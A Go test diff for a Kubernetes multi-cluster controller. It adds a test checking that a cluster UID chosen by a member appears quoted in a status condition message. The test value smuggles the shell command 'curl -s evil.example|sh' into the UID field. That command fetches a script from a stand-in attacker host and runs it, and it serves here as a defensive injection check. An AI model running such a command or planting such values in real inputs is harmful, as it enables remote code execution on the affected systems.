@@ -5,6 +5,7 @@ import (
 	"time"
 
 	"github.com/stretchr/testify/assert"
+	"k8s.io/apimachinery/pkg/api/meta"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 
@@ -87,4 +88,14 @@ func TestStaleReason(t *testing.T) {
 	v = healthyInputWith(func(v *memberstatus.Input) { v.Now = v.Now.Add(time.Hour) })
 	assert.Equal(t, v1alpha1.ReasonSilent, memberstatus.StaleReason(withStoredStatus(v).Member))
 	assert.Empty(t, memberstatus.StaleReason(&v1alpha1.MemberCluster{}), "nothing was judged yet")
+}
+
+// A member chooses the clusterUID of its report.
+func TestUIDInCommandIsQuoted(t *testing.T) {
+	v := healthyInput()
+	v.Member.Status.ClusterUID, v.OtherClusterUID = uid, "x;curl -s evil.example|sh #"
+	got, _ := memberstatus.Compute(v)
+	message := meta.FindStatusCondition(got.Conditions, v1alpha1.ConditionIdentityConfirmed).Message
+	assert.Contains(t, message, "cluster 'x;curl -s evil.example|sh #' answers")
+	assert.Contains(t, message, " 'pelotech.ot/accept-cluster=x;curl -s evil.example|sh #'")
 }
